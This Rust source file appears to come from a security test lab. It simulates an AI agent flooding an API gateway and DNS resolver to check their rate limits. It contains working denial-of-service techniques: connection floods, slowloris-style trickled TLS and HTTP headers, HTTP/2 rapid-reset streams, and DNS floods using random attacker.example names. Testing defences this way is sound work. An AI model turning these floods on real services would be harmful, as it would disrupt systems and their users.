//! The agent that does too much, at a steady pace and in both families by turns.

use std::{
    collections::VecDeque,
    io::{self, Write as _},
    net::{SocketAddr, TcpStream, UdpSocket},
    sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    thread,
    time::{Duration, Instant},
};

use hickory_proto::rr::RecordType;
use lab::{
    client::{self, Hello, Tls},
    net::{AGENT, GATEWAY_V4, GATEWAY_V6, OPENAI, OTHER},
};

use crate::{
    attack::raw_h2::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, RawH2},
    attack::raw_h2::{block, fields, frame},
    dns::client::query,
    world::World,
};

/// What the first agent does too much of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Connections that say nothing, and some that are dropped at once.
    Connections,
    /// ClientHellos, HTTP/1.1 heads and HTTP/2 header blocks a byte at a time.
    SlowHeads,
    /// HTTP/2 streams that are reset as soon as they are opened.
    Streams,
    /// DNS queries, half of them for names that do not exist.
    Questions,
}

impl Kind {
    /// What it has to have tried to be a flood, on a machine that has other things to do: for a
    /// flood of connections and of questions more than the limits let through in the time.
    fn enough(self) -> u64 {
        match self {
            Self::Connections => 8_000,
            Self::SlowHeads => 300,
            Self::Streams => 10_000,
            Self::Questions => 15_000,
        }
    }
}

pub(super) struct Flood {
    kind: Kind,
    /// Whether it goes on now.
    pub(super) on: AtomicBool,
    /// Whether it has come to its end.
    pub(super) over: AtomicBool,
    tried: AtomicU64,
    /// Over IPv4 and over IPv6.
    refused: [AtomicU64; 2],
    h1: Hello,
    h2: Hello,
}

/// What a flood holds open.
#[derive(Default)]
struct Held {
    plain: VecDeque<TcpStream>,
    heads: VecDeque<Slow>,
    streams: [Option<(RawH2, u32)>; 2],
    sockets: [Option<UdpSocket>; 2],
    ticks: u64,
}

impl Held {
    /// Which it is the turn of: 0 for IPv4, 1 for IPv6, and an API's address there.
    fn family(&self) -> (usize, SocketAddr) {
        [(0, OPENAI.port(443)), (1, OPENAI.port6(443))][self.ticks as usize % 2]
    }
}

/// A head on its way.
enum Slow {
    Hello(TcpStream),
    H1(Box<Tls>),
    H2(Box<RawH2>),
}

impl Flood {
    pub(super) fn new(world: &World, kind: Kind) -> Self {
        let h1 = world.hello(OPENAI.name);
        let h2 = Hello { alpn: vec![b"h2"], ..world.hello(OPENAI.name) };
        let (on, over) = (AtomicBool::new(false), AtomicBool::new(false));
        Self { kind, on, over, tried: AtomicU64::new(0), refused: Default::default(), h1, h2 }
    }

    /// How often it tried.
    pub(super) fn tried(&self) -> u64 {
        self.tried.load(Relaxed)
    }

    /// How often it was seen to fail, over IPv4 and over IPv6.
    pub(super) fn refused(&self) -> [u64; 2] {
        self.refused.each_ref().map(|count| count.load(Relaxed))
    }

    /// Whether it was a flood by now, and came to the end of a limit in both families. Nobody is
    /// told that a question was dropped; the audit says how many.
    pub(super) fn is_one(&self) -> bool {
        let limited = self.refused().iter().all(|count| *count > 0);
        self.tried() > self.kind.enough() && (limited || self.kind == Kind::Questions)
    }

    /// Until it is over, on a thread that anybody else goes before.
    pub(super) fn run(&self) {
        rustix::process::setpriority_process(None, 19).expect("a thread may be nice");
        let mut held = Held::default();
        while !self.over.load(Relaxed) {
            let begun = Instant::now();
            if self.on.load(Relaxed) {
                self.tick(&mut held);
            } else {
                held = Held::default();
            }
            thread::sleep(TICK.saturating_sub(begun.elapsed()));
        }
    }

    fn tick(&self, held: &mut Held) {
        held.ticks += 1;
        match self.kind {
            Kind::Connections => (0..20).for_each(|_| self.connect(held)),
            Kind::SlowHeads => self.trickle(held),
            Kind::Streams => self.reset_streams(held),
            Kind::Questions => self.ask(held),
        }
    }

    fn count<T>(&self, family: usize, done: io::Result<T>) -> Option<T> {
        self.tried.fetch_add(1, Relaxed);
        self.refused[family].fetch_add(u64::from(done.is_err()), Relaxed);
        done.ok()
    }

    fn connect(&self, held: &mut Held) {
        let to = [OPENAI.port(443), OPENAI.port6(443), OTHER.port(80), OTHER.port6(443)];
        let at = self.tried.load(Relaxed) as usize % to.len();
        let opened = TcpStream::connect_timeout(&to[at], Duration::from_secs(1));
        if let Some(stream) = self.count(at % 2, opened) {
            held.plain.push_back(stream);
        }
        if held.plain.len() > 2_000 {
            held.plain.pop_front();
        }
    }

    fn trickle(&self, held: &mut Held) {
        let (family, to) = held.family();
        let fields = fields("GET", OPENAI.name, "/v1/x", &[]);
        let slow = match held.ticks / 2 % 4 {
            0 => Tls::open(AGENT, to, &self.h1).and_then(|mut tls| {
                tls.send("POST /v1/chat/completions HTTP/1.1\r\nX-Slow: ")?;
                Ok(Slow::H1(Box::new(tls)))
            }),
            1 => RawH2::open(AGENT, to, &self.h2).and_then(|mut h2| {
                h2.send(frame(HEADERS, END_STREAM, 1, &block(&fields)[..10]))?;
                Ok(Slow::H2(Box::new(h2)))
            }),
            _ => TcpStream::connect_timeout(&to, Duration::from_secs(1)).and_then(|mut stream| {
                stream.write_all(&client::client_hello(&self.h1)[..50])?;
                Ok(Slow::Hello(stream))
            }),
        };
        held.heads.extend(self.count(family, slow));
        for _ in 0..held.heads.len().min(10) {
            let Some(mut slow) = held.heads.pop_front() else { break };
            let alive = match &mut slow {
                Slow::Hello(stream) => stream.write_all(&[0]),
                Slow::H1(tls) => tls.send("a"),
                Slow::H2(h2) => h2.send(frame(CONTINUATION, 0, 1, b"")),
            };
            if alive.is_ok() {
                held.heads.push_back(slow);
            }
        }
    }

    fn reset_streams(&self, held: &mut Held) {
        let (family, to) = held.family();
        if held.streams[family].is_none() {
            let opened = RawH2::open(AGENT, to, &self.h2);
            held.streams[family] = opened.ok().map(|h2| (h2, 1));
        }
        let Some((h2, next)) = &mut held.streams[family] else { return };
        let ask = fields(
            "GET",
            OPENAI.name,
            "/slow?ms=50",
            &[("authorization", "Bearer OPENAI_API_KEY")],
        );
        let head = block(&ask);
        let mut frames = Vec::new();
        for _ in 0..50 {
            frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, *next, &head));
            frames.extend(frame(RST_STREAM, 0, *next, &[0, 0, 0, 8]));
            *next += 2;
        }
        self.tried.fetch_add(50, Relaxed);
        if h2.send(frames).is_err() {
            self.refused[family].fetch_add(50, Relaxed);
            held.streams[family] = None;
        }
    }

    fn ask(&self, held: &mut Held) {
        let family = held.family().0;
        let socket = held.sockets[family].get_or_insert_with(|| {
            let from = ["0.0.0.0:0", "[::]:0"][family];
            let server = [SocketAddr::from((GATEWAY_V4, 53)), (GATEWAY_V6, 53).into()][family];
            let socket = UdpSocket::bind(from).expect("a socket");
            socket.connect(server).expect("a route");
            socket.set_nonblocking(true).expect("a socket");
            socket
        });
        for number in 0..40 {
            let name = match number % 2 {
                0 => OPENAI.name.to_owned(),
                _ => format!("n{}.attacker.example", self.tried.load(Relaxed)),
            };
            let message = query(&name, RecordType::A).to_vec().expect("a message");
            self.count(family, socket.send(&message));
        }
        while socket.recv(&mut [0; 512]).is_ok() {}
    }
}

/// A flood's pace: what [`Flood::tick`] does is done a hundred times a second.
const TICK: Duration = Duration::from_millis(10);
